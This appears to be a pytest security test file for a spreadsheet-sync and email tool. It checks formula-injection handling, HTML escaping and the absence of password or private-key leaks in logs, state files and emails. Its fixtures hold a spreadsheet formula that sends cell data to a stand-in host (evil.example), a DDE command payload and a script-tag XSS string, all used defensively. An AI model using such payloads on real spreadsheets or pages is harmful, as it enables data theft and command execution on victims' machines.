"""Security: no formula is ever written, names are escaped in HTML, no secret is ever shown.

- A workbook whose clients, templates and Package IDs look like formulas is
  synced: every cell the sync writes is text (xlsx data type ``s``, no ``<f>``).
- The alert email, the client notices and the report escape names in their HTML.
- Every command (``sync``, ``report --send``, ``test-email``, ``check``,
  ``status``, ``run``) runs as a subprocess with ``-v`` (tracebacks on), with the
  SMTP password in its environment variable and a service-account key beside
  the config; against a server that takes the login, one that then refuses the
  mail quoting the login back, and with a broken key for the Google backend. All
  output, the state store and the emails are scanned: neither the password (in
  any encoding a login uses) nor any line of the private key appears.
- The state store (and its journal files) and the emails on disk are created 0600.
- A key file others can read or change gets a warning (:mod:`sync.keyfile`).
"""

from __future__ import annotations

import base64
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import UTC, date, datetime
from email.message import EmailMessage
from pathlib import Path

import openpyxl
import pytest

from rules.engine import compute
from rules.model import Table
from sync import bootstrap
from sync.alerts import messages_for
from sync.backends.xlsx import XlsxBackend
from sync.config import Config, load, parse
from sync.cycle import run_cycle
from sync.keyfile import check_key_file
from sync.reporting import render_report
from sync.store import Store
from tests.mailfixtures import Authenticator, Recorder, parts, smtp_server, visible_text
from tests.safety import ROOT, record
from tests.test_google_access import private_key_pem

NOW = datetime(2026, 11, 22, 8, tzinfo=UTC)
TODAY = date(2026, 11, 22)

# --- formulas -------------------------------------------------------------------------

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def test_names_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    path = tmp_path / "practice.xlsx"
    wb = openpyxl.Workbook()
    assert wb.active is not None
    wb.remove(wb.active)
    template = "=IMPORTXML(A1,B1)"
    rows: dict[str, list[list[object]]] = {
        "Clients": [["Client"], *([name] for name in EVIL)],
        "Templates": [["Template", "Sessions"], [template, 2]],
        "Packages": [["Package ID", "Client", "Package", "Template", "Purchased"]]
        + [[f"=P{i}", name, None, template, date(2026, 11, 1)] for i, name in enumerate(EVIL)],
        "Sessions": [["Date", "Client", "Package ID"]]
        + [[date(2026, 11, 10), name, None] for name in EVIL]
        + [[date(2026, 11, 11), "=2+2", None]],
    }
    for title, table in rows.items():
        ws = wb.create_sheet(title)
        for r, row in enumerate(table, start=1):
            for c, value in enumerate(row, start=1):
                ws.cell(r, c).value = value  # type: ignore[assignment]
                if isinstance(value, str):
                    ws.cell(r, c).data_type = "s"  # typed as text by the practitioner
    wb.save(path)
    typed = {
        (ws.title, c.coordinate)
        for ws in wb.worksheets
        for line in ws.iter_rows()
        for c in line
        if c.value is not None
    }
    config = load_config(tmp_path)
    assert run_cycle(config, XlsxBackend(path), now=NOW).outcome.written
    book = openpyxl.load_workbook(path)
    written: list[str] = []
    for ws in book.worksheets:
        for line in ws.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                new = (ws.title, cell.coordinate) not in typed or ws.title == "Dashboard"
                if new and isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s"
                    written.append(f"{ws.title}!{cell.coordinate}")
    # What the sync wrote: the Package IDs and names it filled in, the note quoting an
    # unknown name, the Dashboard listing the clients: all plain text.
    sessions, packages = book["Sessions"], book["Packages"]
    assert [sessions.cell(r, 3).value for r in range(2, 2 + len(EVIL))] == [
        f"=P{i}" for i in range(len(EVIL))
    ]
    assert {packages.cell(r, 3).value for r in range(2, 2 + len(EVIL))} == {template}
    assert "'=2+2' is not on the Clients tab" in str(sessions.cell(2 + len(EVIL), 5).value)
    dashboard = [c.value for row in book["Dashboard"].iter_rows() for c in row]
    assert set(EVIL) <= set(dashboard)
    assert len(written) >= 3 * len(EVIL) + 1, written
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    record("security-formulas", {"formula_like_text_cells_written_by_the_sync": len(written)})


def load_config(folder: Path) -> Config:
    path = folder / "config.toml"
    path.write_text('[workbook]\npath = "practice.xlsx"\n[email]\nto = ["me@example.com"]\n')
    return load(path)


# --- HTML -----------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"
BOLD = "<b>Ann</b>"


def test_names_are_escaped_in_every_html_email() -> None:
    tables = {
        "Clients": Table(
            "Clients", ["Client", "Email"], [[SCRIPT, "s@example.com"], [BOLD, "a@example.com"]]
        ),
        "Packages": Table(
            "Packages",
            ["Package ID", "Client", "Package", "Sessions", "Purchased", "Expires"],
            [
                ["P-0001", SCRIPT, "<i>Pack</i>", 3, "2026-10-01", "2026-11-25"],
                ["P-0002", BOLD, "5 Pack", 2, "2026-10-01", None],
            ],
        ),
        "Sessions": Table(
            "Sessions",
            ["Date", "Client", "Package ID"],
            [
                ["2026-11-20", SCRIPT, "P-0001"],
                ["2026-11-20", BOLD, "P-0002"],
                ["2026-11-21", BOLD, "P-0002"],
                ["2026-11-21", BOLD, "P-0002"],
            ],
        ),
    }
    result = compute(tables, today=TODAY, client_notices=True)
    config = parse(
        {"email": {"to": ["me@example.com"]}, "notify": {"clients": True}},
        Path("config.toml"),
    )
    out = messages_for(result.events, result, config, NOW)
    report = render_report(result, config, NOW)
    messages: list[EmailMessage] = [o.message for o in out] + [report]
    assert len(messages) >= 4  # the alert email, notices, the report
    named = 0
    for message in messages:
        _, html = parts(message)
        assert "<script" not in html and BOLD not in html and "<i>Pack" not in html
        seen = visible_text(html)  # also asserts no script or img tag and well-formed HTML
        for name in (SCRIPT, BOLD):
            if name in seen:
                named += 1
                escaped = name.replace("<", "&lt;").replace(">", "&gt;")
                assert escaped in html or name.replace("<", "&#60;") in html
    assert named >= len(messages)
    record("security-html", {"messages": len(messages), "names_shown_escaped": named})


# --- secrets --------------------------------------------------------------------------

PASSWORD = "Tr0ub4dor&3-n0t-in-any-log"
USER = "coach@example.com"
ENV = "CREDITSHEET_TEST_SMTP_PASSWORD"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SECRETS = [
    PASSWORD,
    b64(PASSWORD),
    b64(f"\0{USER}\0{PASSWORD}"),
    b64(f"{USER}\0{PASSWORD}"),
    PASSWORD.replace("&", "&amp;"),
    PASSWORD.replace("&", "%26"),
]


def key_file(path: Path, *, broken: bool = False) -> list[str]:
    """A service-account key with a fresh RSA key; the secrets a leak would show."""
    pem = private_key_pem()
    body = [line for line in pem.splitlines() if "PRIVATE KEY" not in line]
    if broken:  # the key's body damaged: google-auth cannot read it
        body[3] = body[3][::-1]
        pem = "-----BEGIN PRIVATE KEY-----\n" + "\n".join(body) + "\n-----END PRIVATE KEY-----\n"
    info = {
        "type": "service_account",
        "project_id": "practice-123",
        "private_key_id": "5ecret0123456789abcdef5ecret",
        "private_key": pem,
        "client_email": "creditsheet@practice-123.iam.gserviceaccount.com",
        "client_id": "1234567890",
        "token_uri": "https://oauth2.googleapis.com/token",
    }
    path.write_text(json.dumps(info))
    path.chmod(0o644)
    return [info["private_key_id"], *(line[i : i + 24] for line in body for i in (0, 24))]


def leaks(data: bytes, key_secrets: list[str]) -> list[str]:
    text = data.decode("utf-8", "replace")
    return [s for s in [*SECRETS, *key_secrets] if s and s in text]


def unb64(text: str) -> str:
    return base64.b64decode(text + "==").decode("utf-8", "replace")


@contextmanager
def echoing_smtp() -> Iterator[int]:
    """An SMTP server that takes the login, then refuses the sender quoting the login back
    (as sent and decoded): an error text that would carry the password if not blanked."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.1)
    stop = threading.Event()

    def serve(conn: socket.socket) -> None:
        with conn, conn.makefile("rwb") as f:

            def say(line: str) -> None:
                f.write(line.encode() + b"\r\n")
                f.flush()

            say("220 echo.example ESMTP")
            login: list[str] = []
            while True:
                raw = f.readline()
                if not raw:
                    return
                line = raw.decode(errors="replace").strip()
                word = line.split(" ")[0].upper()
                if word == "EHLO":
                    say("250-echo.example\r\n250-AUTH PLAIN LOGIN\r\n250 OK")
                elif word == "AUTH":
                    login = [line.split(" ")[-1]]
                    login.append(unb64(login[0]).replace("\0", " "))
                    say(f"235 2.7.0 welcome {' '.join(login)}")
                elif word == "MAIL":
                    say(f"451 4.3.0 not now; you logged in with {' '.join(login)}")
                elif word == "QUIT":
                    say("221 bye")
                    return
                else:
                    say("250 OK")

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            threading.Thread(target=serve, args=(conn,), daemon=True).start()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield int(listener.getsockname()[1])
    finally:
        stop.set()
        thread.join()
        listener.close()


def smtp_config(port: int) -> str:
    return (
        '[workbook]\npath = "practice.xlsx"\n[sync]\ninterval_seconds = 1\n'
        'timezone = "Europe/London"\n'
        '[email]\nbackend = "smtp"\nhost = "127.0.0.1"\n'
        f'port = {port}\nsecurity = "none"\nusername = "{USER}"\npassword_env = "{ENV}"\n'
        'to = ["me@example.com"]\ntimeout_seconds = 5\n[report]\nevery = "off"\n'
    )


def google_config() -> str:
    return (
        '[workbook]\nbackend = "google"\nspreadsheet = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"\n'
        'credentials = "service-account.json"\n'
        f'[email]\nbackend = "smtp"\nhost = "127.0.0.1"\nusername = "{USER}"\n'
        f'password_env = "{ENV}"\nto = ["me@example.com"]\n'
    )


def command(folder: Path, *args: str) -> tuple[list[str], bytes]:
    """Run ``creditsheet ARGS -v`` on ``folder``'s config: (what, exit status), all it printed.

    ``run`` is stopped with SIGTERM once it has logged its first cycle.
    """
    env = {k: v for k, v in os.environ.items() if not k.startswith("CREDITSHEET_")}
    env[ENV] = PASSWORD
    argv = [sys.executable, "-m", "tests.safety.faults", *args, "-v", "--config"]
    argv.append(str(folder / "config.toml"))
    log = folder.parent / f"{folder.name}-{args[0]}.out"
    with log.open("wb") as out:
        proc = subprocess.Popen(argv, cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT)
        if args[0] == "run":
            deadline = time.monotonic() + 30
            while b"cycle" not in log.read_bytes() and time.monotonic() < deadline:
                time.sleep(0.05)
            proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)
    return [" ".join(args), str(proc.returncode)], log.read_bytes()


def prepare(folder: Path, config_text: str) -> list[str]:
    folder.mkdir(parents=True)
    (folder / "config.toml").write_text(config_text)
    secrets = key_file(folder / "service-account.json", broken="google" in config_text)
    if "google" not in config_text:
        config = load(folder / "config.toml")
        XlsxBackend(config.workbook_path).prepare(bootstrap.layout(config, demo_for=TODAY))
    return secrets


#: What each setting runs; ``-v`` everywhere, so any traceback is printed too.
COMMANDS: dict[str, list[tuple[str, ...]]] = {
    "login taken": [("sync",), ("report", "--send"), ("test-email",), ("run", "--log-format=json")],
    "login echoed back": [("sync",), ("test-email",), ("check",), ("status",), ("run",)],
    "google, broken key": [("check",), ("sync",)],
}


def scanned_files(folder: Path) -> dict[str, bytes]:
    """Everything on disk the commands wrote: the state store and its journal, emails, logs."""
    skip = {"config.toml", "service-account.json", "practice.xlsx"}
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in folder.rglob("*")
        if p.is_file() and p.name not in skip
    }


def test_no_password_and_no_private_key_in_any_output_log_store_or_email(tmp_path: Path) -> None:
    accepting = Recorder()
    authenticator = Authenticator(USER, PASSWORD)
    with (
        smtp_server(accepting, authenticator=authenticator, auth_require_tls=False) as good,
        echoing_smtp() as echo,
    ):
        folders = {
            "login taken": (tmp_path / "good", smtp_config(good.port)),
            "login echoed back": (tmp_path / "echo", smtp_config(echo)),
            "google, broken key": (tmp_path / "google", google_config()),
        }
        key_secrets = {name: prepare(*where) for name, where in folders.items()}
        with ThreadPoolExecutor(max_workers=2) as pool:
            ran = pool.map(
                lambda name: [command(folders[name][0], *args) for args in COMMANDS[name]],
                folders,
            )
            done = dict(zip(folders, ran, strict=True))
    found: list[str] = []
    scanned = 0
    for name, outputs in done.items():
        folder = folders[name][0]
        for (what, code), out in outputs:
            scanned += len(out)
            found += [f"{name}: `{what}` (exit {code}): {s}" for s in leaks(out, key_secrets[name])]
        for path, data in scanned_files(folder).items():
            scanned += len(data)
            found += [f"{name}: {path}: {s}" for s in leaks(data, key_secrets[name])]
    for message in accepting.messages:  # what the server received
        data = message.as_bytes()
        scanned += len(data)
        found += [f"an email received: {s}" for s in leaks(data, key_secrets["login taken"])]
    assert not found, found
    # The scan looked at real failures and real mail, not at nothing.
    echo_out = b"".join(out for _, out in done["login echoed back"])
    google_out = b"".join(out for _, out in done["google, broken key"])
    assert len(accepting.messages) >= 3 and authenticator.tried
    assert b"you logged in with" in echo_out and b"***" in echo_out  # echoed, blanked out
    assert b"private key cannot be read" in google_out
    statuses = {f"{n}: {w}": c for n, outs in done.items() for (w, c), _ in outs}
    assert all(c == "0" for k, c in statuses.items() if k.startswith("login taken")), statuses
    record(
        "security-secrets",
        {"commands": statuses, "bytes_scanned": scanned, "secrets_found": len(found)},
    )


# --- file modes -----------------------------------------------------------------------


def test_the_state_store_and_emails_on_disk_are_private(tmp_path: Path) -> None:
    old = os.umask(0)  # even when everything would be created world-writable
    try:
        config = load_config(tmp_path)
        store = Store(config.state_path)
        with store.transaction():
            store.cycles.record(NOW, 0.1, "ok")
        created = {
            p.name: stat.S_IMODE(p.stat().st_mode)
            for p in tmp_path.iterdir()
            if p.name.startswith(config.state_path.name)
        }
        store.close()
        result = command(tmp_path, "test-email")
    finally:
        os.umask(old)
    assert result[0][1] == "0", result[1]
    assert created and set(created.values()) == {0o600}, created  # the store, -wal, -shm
    emails = list((tmp_path / "outbox").glob("*.eml"))
    assert emails and {stat.S_IMODE(p.stat().st_mode) for p in emails} == {0o600}
    record("security-modes", {"state_files": {k: oct(v) for k, v in created.items()}})


@pytest.mark.parametrize(
    ("mode", "warned"),
    [
        (0o644, "every user"),
        (0o604, "every user"),
        (0o640, "its group"),
        (0o600, None),
        (0o400, None),
    ],
)
def test_a_key_file_others_can_read_gets_a_warning(
    tmp_path: Path, mode: int, warned: str | None
) -> None:
    path = tmp_path / "service-account.json"
    secrets = key_file(path)
    path.chmod(mode)
    warnings = check_key_file(path)
    if warned is None:
        assert warnings == []
    else:
        assert len(warnings) == 1 and warned in warnings[0] and f"chmod 600 {path}" in warnings[0]
        assert f"{mode:04o}" in warnings[0]
        assert not leaks(warnings[0].encode(), secrets)
    assert check_key_file(tmp_path / "missing.json") == []
